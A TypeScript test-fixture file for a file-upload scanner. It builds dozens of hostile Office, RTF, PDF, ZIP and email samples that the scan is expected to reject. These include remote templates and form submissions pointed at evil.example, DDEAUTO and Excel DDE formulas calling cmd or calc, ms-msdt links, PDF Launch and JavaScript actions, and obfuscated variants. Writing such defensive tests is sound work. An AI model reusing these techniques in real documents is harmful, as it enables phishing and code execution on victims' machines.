import {
  docx,
  mail,
  pdfStream,
  plainMail,
  program,
  rtf,
  text,
  uuencoded,
  wholePdf,
  xlsx,
} from "./samples.ts";
import { type HostileUpload, rejected } from "./upload.ts";
import { zip, type ZipEntry } from "./zip.ts";

const OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const COMPOUND = Buffer.concat([Buffer.from("d0cf11e0a1b11ae1", "hex"), Buffer.alloc(600)]);

const utf16 = (xml: string): Buffer => Buffer.from(`\uFEFF${xml}`, "utf16le");

/** A relationship of the document, with this prefix on its elements. */
export const related = (type: string, target: string, prefix = "", mode = "External"): ZipEntry => {
  const [element, root] = [`${prefix}Relationship`, `${prefix}Relationships`];
  const namespace = `xmlns${prefix === "" ? "" : `:${prefix.slice(0, -1)}`}="r"`;
  const data = `<${root} ${namespace}><${element} Id="r9" TargetMode="${mode}" Type="${OFFICE}/${type}" Target="${target}"/></${root}>`;
  return { name: "word/_rels/document.xml.rels", data };
};

export const code = (instruction: string, prefix = "w"): string =>
  `<x xmlns:${prefix}="w"><${prefix}:instrText>${instruction}</${prefix}:instrText></x>`;
export const part = (data: string | Buffer): Buffer => docx([{ name: "word/header1.xml", data }]);
export const sheet = (formula: string): Buffer =>
  xlsx([
    { name: "xl/worksheets/sheet1.xml", data: `<s:a xmlns:s="s"><s:f>${formula}</s:f></s:a>` },
  ]);
export const simple = (instruction: string): string =>
  `<a:fldSimple xmlns:a="w" a:instr="${instruction}"/>`;

const OFFICE_FILES: readonly [string, Buffer][] = [
  ["a template on a server", docx([related("attachedTemplate", "https://evil.example/t.dotm")])],
  ["a template under a prefix", docx([related("attachedTemplate", "http://evil.example/t", "p:")])],
  ["a template on a share", docx([related("attachedTemplate", "file://server/share/t.dotm")])],
  ["a template on a share, with four slashes", docx([related("attachedTemplate", "file:////s/t")])],
  ["a template on a share, in backslashes", docx([related("attachedTemplate", "\\\\s\\t.dotm")])],
  ["a template on a share, encoded", docx([related("attachedTemplate", "file:%2f%2fs%2ft.dot")])],
  ["a template that says it is inside", docx([related("attachedTemplate", "http://e/t", "", "")])],
  ["a frame", docx([related("frame", "https://evil.example/f.htm")])],
  ["a picture from the web", docx([related("image", "https://evil.example/p.png")])],
  ["an altChunk", docx([related("aFChunk", "chunk.mht", "", "Internal")])],
  ["a data source of a mail merge", docx([related("mailMergeSource", "file:///c:/a.mdb")])],
  ["a connection of a mail merge", part('<w:m xmlns:w="w"><w:connectString w:val="x"/></w:m>')],
  ["a linked object", docx([related("oleObject", "https://evil.example/o")])],
  ["an ActiveX control", docx([related("control", "activeX1.xml", "", "Internal")])],
  ["an object under another name", docx([{ name: "word/theme/t.xml", data: COMPOUND }])],
  ["an element of an object", part('<q:OLEObject xmlns:q="o" ProgID="Package"/>')],
  ["a link that runs a program", docx([related("hyperlink", "ms-msdt:/id x")])],
  ["a link to a script", docx([related("hyperlink", "java\tscript:alert(1)")])],
  ["a link to a local program", docx([related("hyperlink", "file:///c:/a.exe")])],
  ["a link to a local folder", docx([related("hyperlink", "file:///c:/windows/system32")])],
  ["a link to a share", docx([related("hyperlink", "\\\\server\\a.exe")])],
  ["a link to a program beside it", docx([related("hyperlink", "setup.exe")])],
  ["a DDE field", part(code("DDEAUTO c:\\\\windows\\\\cmd.exe"))],
  ["a DDE field under another prefix", part(code("dde cmd", "zz"))],
  ["a DDE field in UTF-16", part(utf16(code(" DDEAUTO cmd")))],
  ["a DDE field in entities", part(code("&#68;&#x44;EAUTO cmd"))],
  ["a DDE field in CDATA", part(code("<![CDATA[DDE]]>AUTO cmd"))],
  ["a DDE field in an attribute", part(simple(" DDEAUTO cmd"))],
  ["a DDE field inside another", part(code("IF 1 = 1 { DDE cmd }"))],
  ["a link field to a share", part(code('HYPERLINK "\\\\\\\\server\\\\a.exe"'))],
  ["a link field with switches first", part(code('HYPERLINK \\o "tip" "file:///c:/a.exe"'))],
  ["a field with a text of a share", part(code('INCLUDETEXT "\\\\\\\\server\\\\a.docx"'))],
  ["a field with a picture over http", part(simple("INCLUDEPICTURE http://evil.example/a.png"))],
  ["a field with a linked object", part(code("LINK Excel.Sheet.12 c:\\\\a.xlsx"))],
  [
    "a drawing from the web",
    part('<v:fill xmlns:v="v" xmlns:k="o" k:href="http://evil.example/"/>'),
  ],
  ["a document type", part('<!DOCTYPE x [<!ENTITY e "DDE">]><x>&e;</x>')],
  ["buttons of macros", docx([related("ui/extensibility", "customUI.xml", "", "Internal")])],
  ["a document with macros in it", docx([{ name: "word/embeddings/a.docm", data: docx() }])],
];

const WORKBOOKS: readonly [string, Buffer][] = [
  ["a DDE formula", sheet("cmd|'/c calc'!A0")],
  ["a DDE formula in entities", sheet("cmd&#124;'/c calc'!A0")],
  ["a quoted DDE formula", sheet("'cmd'|'/c calc'!A0")],
  ["a formula that calls a library", sheet('CALL("shell32","ShellExecuteA","JJ")')],
  ["a formula that links to a share", sheet('HYPERLINK("\\\\server\\a.exe","x")')],
  ["a DDE link", xlsx([{ name: "xl/externalLinks/e.xml", data: "<x:ddeLink xmlns:x='x'/>" }])],
  ["a macro sheet", xlsx([{ name: "xl/macrosheets/sheet1.xml", data: "<x/>" }])],
  ["macros", xlsx([{ name: "xl/vbaProject.bin", data: COMPOUND }])],
];

const RTFS: readonly [string, string][] = [
  ["an object", "{\\object\\objemb{\\*\\objdata 0105}}"],
  ["an object in odd case", "{\\OBJECT x}"],
  ["a template on a server", "{\\*\\template http://evil.example/t.dotm}"],
  ["a template in escapes", "{\\*\\template \\'68ttp://evil.example/t}"],
  ["a DDE field in pieces", "{\\field{\\*\\fldinst {D}{\\b D}{\\*\\x y}{E} cmd}}"],
  ["a DDE field in Unicode", "{\\field{\\*\\fldinst \\u68?\\u68?\\u69?AUTO cmd}}"],
  ["a link to a share", '{\\field{\\*\\fldinst HYPERLINK "\\\\\\\\\\\\\\\\server\\\\\\\\a.exe"}}'],
  ["a link to a program", '{\\field{\\*\\fldinst{HYPERLINK "file:///c:/a.exe"}}{\\fldrslt x}}'],
  ["a source of a mail merge", "{\\*\\mailmerge{\\mmconnectstr x}}"],
];

const action = (content: string): Buffer => wholePdf(`<< /Type /Action ${content} >>`);
const packed = (object: string, keys = "/Type /ObjStm /N 1 /First 4 "): Buffer =>
  wholePdf(pdfStream(`9 0 ${object}`, true, keys));
const hex = (name: string): string =>
  [...name].map((letter) => `#${letter.charCodeAt(0).toString(16)}`).join("");
export const attached = (name: string, content: string): Buffer =>
  wholePdf(
    `<< /Type /Filespec /F (${name}) /UF (${name}) /EF << /F 6 0 R >> >>`,
    pdfStream(content, true, "/Type /EmbeddedFile "),
  );
const asHex = (object: string): string => {
  const data = `${Buffer.from(`9 0 ${object}`).toString("hex")}>`;
  return `<< /Type /ObjStm /N 1 /First 4 /Length ${data.length} /Filter 6 0 R >>\nstream\n${data}\nendstream`;
};
const SCRIPT = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";

const PDFS: readonly [string, Buffer][] = [
  ["a script", action("/S /JavaScript /JS (app.alert)")],
  ["a script whose kind is elsewhere", wholePdf("<< /S 6 0 R /JS 7 0 R >>", "/JavaScript", "(a)")],
  ["a script in a stream", wholePdf("<< /S /JavaScript /JS 6 0 R >>", pdfStream("app.alert(1)"))],
  ["a script in a spelled name", action(`/S /${hex("JavaScript")} /${hex("JS")} (app)`)],
  ["a script in an object stream", packed(SCRIPT)],
  ["a script in an untyped object stream", packed(SCRIPT, "/N 1 /First 4 ")],
  ["a script behind a later filter", wholePdf(asHex(SCRIPT), "/ASCIIHexDecode")],
  ["a script in a string", wholePdf(`(9 0 obj ${SCRIPT} endobj)`)],
  ["a script in a comment", wholePdf(`null % 9 0 obj ${SCRIPT} endobj\n`)],
  ["a script inside a stream", wholePdf(pdfStream(`9 0 obj ${SCRIPT} endobj`, false))],
  ["a script in a rendition", action("/S /Rendition /JS (app)")],
  ["an action that starts a program", action("/S /Launch /F (cmd.exe)")],
  ["a spelled action that starts a program", action(`/#53 /${hex("Launch")} /F (cmd)`)],
  ["a page of a remote file", action("/S /GoToR /F (\\\\\\\\server\\\\a.pdf)")],
  ["a page of a file in another folder", action("/S /GoToR /F (../a.pdf)")],
  [
    "a page of a file beside it on opening",
    wholePdf("<< /OpenAction << /S /GoToR /F (a.pdf) /D [0 /Fit] >> >>"),
  ],
  ["a page of an attached file", action("/S /GoToE /T << /R /C /N (a.pdf) >>")],
  ["a link to a file", action("/S /URI /URI (file:///c:/windows/calc.exe)")],
  ["a link to a file in UTF-16", action("/S /URI /URI <FEFF00660069006C0065003A002F0061>")],
  ["a link to a script on an annotation", wholePdf("<< /A << /S /URI /URI (javascript:a) >> >>")],
  ["a link to a document on a share", action("/S /URI /URI (file://server/share/a.pdf)")],
  ["a link to a program with a query", action("/S /URI /URI (file:///c:/a.exe?b.pdf)")],
  [
    "a link to a local page on opening",
    wholePdf("<< /OpenAction << /S /URI /URI (file:///c:/a.html) >> >>"),
  ],
  [
    "a link to a local page on a page's opening",
    wholePdf("<< /AA << /O 6 0 R >> >>", "<< /S /URI /URI (file:///c:/a.html) >>"),
  ],
  ["a link to a share", action("/S /URI /URI (\\\\\\\\server\\\\share)")],
  ["a form that sends data", action("/S /SubmitForm /F (https://evil.example)")],
  ["an import of data", action("/S /ImportData /F (a.fdf)")],
  ["a dynamic form", wholePdf("<< /Type /Catalog /NeedsRendering true >>")],
  ["a form with scripts", wholePdf("<< /XFA 6 0 R >>", pdfStream("<x:script>a</x:script>"))],
  ["a form in parts with scripts", wholePdf("<< /XFA [(a) 6 0 R] >>", pdfStream("<event a='b'/>"))],
  ["rich media", wholePdf("<< /Type /Annot /Subtype /RichMedia >>")],
  ["a film", wholePdf("<< /Type /Annot /Subtype /Movie >>")],
  ["a 3D script", wholePdf(pdfStream("x", true, "/Type /3D /OnInstantiate 6 0 R "))],
  ["content of another file", wholePdf(pdfStream("", false, "/Ref << /F (a.pdf) /Page 0 >> "))],
  ["a stream in another file", wholePdf(pdfStream("", false, "/F (\\\\\\\\server\\\\a) "))],
  ["an attached program by its name", attached("invoice.pdf.exe", "x")],
  ["an attached program", attached("a.dat", program().toString("latin1"))],
  ["an attached web page with a script", attached("a.html", "<html><script>1</script>")],
  ["an attached XML with a script", attached("a.xml", '<a xmlns:s="s"><s:script>1</s:script></a>')],
  ["an attached PDF with a script", attached("a.pdf", action(`/JS (x)`).toString("latin1"))],
  ["a web page before it", Buffer.concat([Buffer.from("<html><script>1</script>\n"), wholePdf()])],
];

export const note = { name: "a.txt", data: text() };
const inside = (name: string, data: Buffer | string = text()): Buffer =>
  zip([note, { name, data }]);
const listed = zip([note]);
const hidden = Buffer.concat([zip([{ name: "a.exe", data: "x" }]), listed]);

const ARCHIVES: readonly [string, Buffer][] = [
  ...`a.hta a.LNK a.js a.vbs a.bat a.ps1 a.scr a.url a.jar desktop.ini x/Desktop.ini a.exe. a.docm
    __MACOSX/a.hta __MACOSX/._a.exe autorun.inf a.iso a.txt:b.exe a.settingcontent-ms`
    .split(/\s+/)
    .map((name): [string, Buffer] => [name, inside(name)]),
  ["a shell script without an ending", inside("install", "#!/bin/sh\nid\n")],
  ["a web page with a script", inside("a.html", "<html><script>1</script></html>")],
  ["a web page under another name", inside("a.dat", "<!DOCTYPE html><body onload=x()>")],
  ["a drawing with a script", inside("a.svg", "<svg><script>1</script></svg>")],
  [
    "a shortcut by its content",
    inside("a.dat", Buffer.from("4c0000000114020000000000c000000000000046", "hex")),
  ],
  [
    "a Word file of 2003 with macros",
    inside("a.doc", Buffer.concat([COMPOUND, Buffer.from("_VBA_PROJECT", "utf16le")])),
  ],
  ["an RTF with an object under another name", inside("a.doc", rtf("{\\object x}"))],
  ["a PDF with a script under another name", inside("a.bin", action("/S /JavaScript /JS (x)"))],
  [
    "a workbook with macros under another name",
    inside("a.xlsb", xlsx([{ name: "xl/vbaProject.bin", data: COMPOUND }])),
  ],
  [
    "an OpenDocument file with macros",
    inside(
      "a.odt",
      zip([
        { name: "META-INF/manifest.xml", data: "<a/>" },
        { name: "Basic/Standard/M.xml", data: "<a/>" },
      ]),
    ),
  ],
  ["a picture that is a program", inside("a.jpg", program())],
  ["another archive before it", hidden],
  [
    "six archives of 200 files",
    zip(
      Array.from({ length: 6 }, (_, at) => ({
        name: `${at}.zip`,
        data: zip(Array.from({ length: 200 }, (_, file) => ({ ...note, name: `${file}.txt` }))),
        stored: true,
      })),
    ),
  ],
];

export const disposed = (type: string, disposition: string, body: string): Buffer =>
  Buffer.from(
    `From: a@example.com\r\nSubject: s\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: ${type}\r\nContent-Disposition: ${disposition}\r\n\r\n${body}\r\n--b--\r\n`,
  );

const MAILS: readonly [string, Buffer][] = [
  ["a web page without a name", disposed("text/html", "attachment", "<p>x</p>")],
  ["a web page in odd case", disposed("TEXT/HTML", "ATTACHMENT", "<p>x</p>")],
  ["a web page by its name", disposed("text/plain", 'attachment; filename="a.HTM"', "x")],
  ["a web page of no type", disposed("application/octet-stream", "attachment", "<html><p>x</p>")],
  [
    "a program in a second name",
    disposed('text/plain; name="a.exe"', "inline; filename=a.txt", "x"),
  ],
  ["a program in an encoded name", mail({ name: "=?utf-8?q?a=2Eexe?=", data: text() })],
  [
    "a program in a continued name",
    disposed("text/plain", 'attachment; filename*0="a.e"; filename*1="xe"', "x"),
  ],
  ["a program in its text", plainMail(uuencoded("a.exe", text()))],
  ["a program in its text by its content", plainMail(uuencoded("a.dat", program()))],
  ["a second file in its text", plainMail(uuencoded("a.txt", text()) + uuencoded("b.js", text()))],
  [
    "a script of a PDF in its text",
    plainMail(`See.\n${uuencoded("a.pdf", action("/S /JavaScript /JS (app.alert)"))}`),
  ],
  [
    "a program in uuencode",
    plainMail(uuencoded("a.dat", program()), "Content-Transfer-Encoding: x-uuencode\r\n"),
  ],
  [
    "a program in Base64 in its text",
    plainMail(`begin-base64 644 a.dat\n${program().toString("base64")}\n====\n`),
  ],
  ["a ZIP with a program", mail({ name: "a.zip", data: inside("a.exe") })],
  ["a mail with a program", mail({ name: "a.eml", data: mail({ name: "a.scr", data: text() }) })],
];

const files = (kind: string, ending: string, list: readonly [string, Buffer][]): HostileUpload[] =>
  list.map(([title, bytes]) =>
    rejected(
      `${kind} with ${title}`,
      `a${ending}`,
      bytes,
      title.startsWith("six") ? "ARCHIVE_LIMIT" : "TYPE_MISMATCH",
    ),
  );

/** Files of each danger that the scan must refuse, in several forms. */
export const dangers: readonly HostileUpload[] = [
  ...files("a DOCX", ".docx", OFFICE_FILES),
  ...files("an XLSX", ".xlsx", WORKBOOKS),
  ...files(
    "an RTF",
    ".rtf",
    RTFS.map(([title, more]) => [title, rtf(more)]),
  ),
  ...files("a PDF", ".pdf", PDFS),
  ...files("a ZIP", ".zip", ARCHIVES),
  ...files("a mail", ".eml", MAILS),
];
